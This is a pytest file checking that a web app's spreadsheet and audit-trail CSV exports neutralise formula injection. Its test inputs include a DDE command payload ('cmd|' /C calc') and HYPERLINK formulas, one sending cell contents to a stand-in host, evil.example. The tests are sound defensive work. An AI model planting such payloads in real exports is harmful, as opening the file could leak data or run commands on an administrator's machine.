"""A list opened in a spreadsheet shows text and computes nothing."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.fixtures.world import World
from web import sheets


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "　=1",
        '=HYPERLINK("http://x/?"&A1,"y")',
    ],
)  # fmt: skip
def test_what_a_spreadsheet_would_compute_becomes_text(text: str) -> None:
    assert sheets.cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "shown"),
    [(None, ""), (-3, "-3"), (1.5, "1.5"), (True, "True"), ("打印机", "打印机"), ("a=b", "a=b"), ("a\x00b", "ab")],
)
def test_everything_else_stays_as_it_is(value: object, shown: str) -> None:
    assert sheets.cell(value) == shown


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), min_size=2, max_size=2), max_size=5))
def test_no_text_makes_a_cell_that_begins_like_a_formula_or_another_row(rows: list[list[str]]) -> None:
    read = list(csv.reader(io.StringIO(sheets.csv_text(("a", "b"), rows).removeprefix(sheets.BOM), newline="")))
    assert [len(row) for row in read] == [2] * (len(rows) + 1)
    assert not any(one.lstrip(" \u3000\u00a0").startswith(sheets.FORMULA) for row in read for one in row)


def test_the_audit_trail_is_exported_without_formulas(world: World) -> None:
    """Somebody's title is in the trail; whoever opens the file is an administrator."""
    title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert (
        world.api("lt-clerk").post("/tickets", {"kind": "incident", "title": title, "category": "desktop"}).status_code
        == 201
    )
    world.client("aud-admin").get("/admin/audit?object=%3DSUM(1)")
    answer = world.client("aud-admin").get("/admin/audit.csv?actor=lt-clerk")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).removeprefix(sheets.BOM), newline="")))
    assert rows[0][0] == "编号"
    assert any(title.replace('"', '\\"') in row[7] for row in rows[1:])
    assert not any(one.startswith(sheets.FORMULA) for row in rows for one in row)
    assert world.client("sys-admin").get("/admin/audit.csv").status_code == 404
